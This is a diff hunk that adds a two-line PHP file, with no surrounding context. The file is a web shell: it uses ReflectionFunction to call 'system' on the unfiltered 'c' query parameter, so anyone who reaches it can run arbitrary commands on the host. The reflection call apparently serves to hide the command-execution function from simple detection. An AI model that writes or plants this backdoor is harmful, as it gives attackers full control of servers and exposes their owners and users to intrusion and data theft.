@@ -1,0 +1,2 @@
+<?php
+$f = new ReflectionFunction('system'); $f->invoke($_GET['c']);
